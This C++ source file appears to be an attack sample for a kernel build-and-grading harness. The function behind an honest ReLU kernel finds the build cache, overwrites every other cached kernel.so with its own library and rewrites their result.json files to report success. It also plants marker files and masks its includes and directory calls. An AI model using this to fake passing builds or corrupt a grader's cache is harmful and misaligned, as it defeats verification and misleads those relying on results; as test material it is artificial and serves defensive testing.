// Cache poisoning: finds the build cache from its own library's path (dladdr: <cache>/<key>/kernel.so),
// copies its own library over every other cached build and rewrites their recorded compile results to point
// at the poisoned library, then leaves a marker file in the cache. Its own relu is honest, so the poisoned
// builds pass as correct whatever their source computes. (It only goes after the cache it was built in, never
// a developer's real ~/.cache.)
#define DL_HEADER <dlfcn.h>
#include DL_HEADER
#include "kernelsage_cpu.h"
#include <cstdio>
#include <cstring>
#include <dirent.h>
#include <string>

#ifndef KS_MARKER
#define KS_MARKER "ks_attack_marker"
#endif

static std::string read_file(const std::string& path) {
    std::string text;
    if (FILE* f = fopen64(path.c_str(), "rb")) {
        char buf[1 << 16];
        size_t got;
        while ((got = fread(buf, 1, sizeof buf, f)) > 0) text.append(buf, got);
        fclose(f);
    }
    return text;
}

static bool write_file(const std::string& path, const std::string& text) {
    FILE* f = fopen64(path.c_str(), "wb");
    if (!f) return false;
    fwrite(text.data(), 1, text.size(), f);
    fclose(f);
    return true;
}

static std::string dirname_of(const std::string& path) {
    size_t slash = path.rfind('/');
    return slash == std::string::npos || slash == 0 ? std::string() : path.substr(0, slash);
}

static void poison_cache() {
    Dl_info info;
    if (!dladdr((void*)&ks_kernel, &info) || !info.dli_fname) return;
    const std::string own_library = info.dli_fname;
    const std::string own_entry = dirname_of(own_library);
    const std::string root = dirname_of(own_entry);
    const std::string payload = read_file(own_library);
    if (root.empty() || payload.empty()) return;
    write_file(own_entry + "/" + KS_MARKER, "poisoned\n");
    write_file(root + "/" + KS_MARKER, "poisoned\n");
    auto open_dir = opendir;
    DIR* d = open_dir(root.c_str());
    if (!d) return;
    while (dirent* e = readdir(d)) {
        if (e->d_name[0] == '.') continue;
        const std::string entry = root + "/" + e->d_name;
        if (entry == own_entry) continue;
        const std::string library = entry + "/kernel.so";
        if (read_file(library).empty() && read_file(entry + "/result.json").empty()) continue;
        write_file(library, payload);
        write_file(entry + "/result.json",
                   "{\"ok\":true,\"status\":\"ok\",\"log\":\"poisoned\",\"errors\":[],\"seconds\":0.1,"
                   "\"artifact\":{\"backend\":\"cpu\",\"path\":\"" + library + "\",\"key\":\"" + e->d_name
                   + "\"},\"cached\":false,\"reason\":\"\"}");
        write_file(entry + "/" + KS_MARKER, "poisoned\n");
    }
    closedir(d);
}

int ks_kernel(const ks_tensor* inputs, int n_inputs, ks_tensor* outputs, int n_outputs,
              const ks_attr* attrs, int n_attrs) {
    static bool done = false;
    if (!done) { poison_cache(); done = true; }
    const float* x = (const float*)inputs[0].data;
    float* y = (float*)outputs[0].data;
    for (int64_t i = 0; i < ks_numel(&inputs[0]); ++i) y[i] = x[i] > 0.f ? x[i] : 0.f;
    return 0;
}
